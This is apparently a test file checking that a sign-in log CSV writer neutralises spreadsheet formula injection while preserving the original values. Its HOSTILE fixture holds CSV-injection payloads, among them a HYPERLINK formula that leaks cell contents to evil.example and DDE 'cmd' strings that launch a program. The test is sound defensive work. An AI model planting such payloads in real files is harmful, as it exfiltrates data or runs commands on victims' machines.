/**
 * The Log Analytics CSV the writer makes is safe to open in a spreadsheet: no cell from the data starts a formula.
 * signinlab itself reads the same values back.
 */
import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { loadFiles } from '../../src/sources/files/load-files';
import { writeRows } from '../../src/sources/writers/write-rows';
import { tempFiles } from './fixtures';

const HOSTILE = {
  UserAgent: '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
  AppDisplayName: '+cmd|\' /C calc\'!A0',
  UserDisplayName: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  ResourceDisplayName: '-2+3+cmd|\' /C calc\'!A0',
  City: '\t=1+1',
};

test('la-csv neutralises formula cells and the loader reads the original values back', async () => {
  const row = {
    Type: 'SigninLogs',
    Id: 'x1',
    TimeGenerated: '2024-05-01T10:00:05Z',
    CreatedDateTime: '2024-05-01T10:00:00Z',
    UserPrincipalName: 'ana@contoso.com',
    UserId: 'u1',
    IPAddress: '203.0.113.5',
    ResultType: '0',
    IsInteractive: true,
    UserAgent: HOSTILE.UserAgent,
    AppDisplayName: HOSTILE.AppDisplayName,
    UserDisplayName: HOSTILE.UserDisplayName,
    ResourceDisplayName: HOSTILE.ResourceDisplayName,
    LocationDetails: { city: HOSTILE.City, countryOrRegion: 'NO', geoCoordinates: { latitude: -33.86, longitude: 151.2 } },
  };
  const t = tempFiles({});
  try {
    const path = t.path('out.csv');
    await writeRows([row], path, 'la-csv');
    const cells = (parse(readFileSync(path, 'utf8'), { bom: true }) as string[][]).flat();
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    for (const value of Object.values(HOSTILE).slice(0, 4)) expect(cells).toContain(`'${value}`);
    const loaded = await loadFiles([path]);
    expect(loaded.rejected).toEqual([]);
    const back = loaded.table.row(0);
    expect(back.UserAgent).toBe(HOSTILE.UserAgent);
    expect(back.AppDisplayName).toBe(HOSTILE.AppDisplayName);
    expect(back.UserDisplayName).toBe(HOSTILE.UserDisplayName);
    expect(back.ResourceDisplayName).toBe(HOSTILE.ResourceDisplayName);
    expect(back.City).toBe(HOSTILE.City);
    expect(back.Latitude).toBe(-33.86);
  } finally {
    t.cleanup();
  }
});
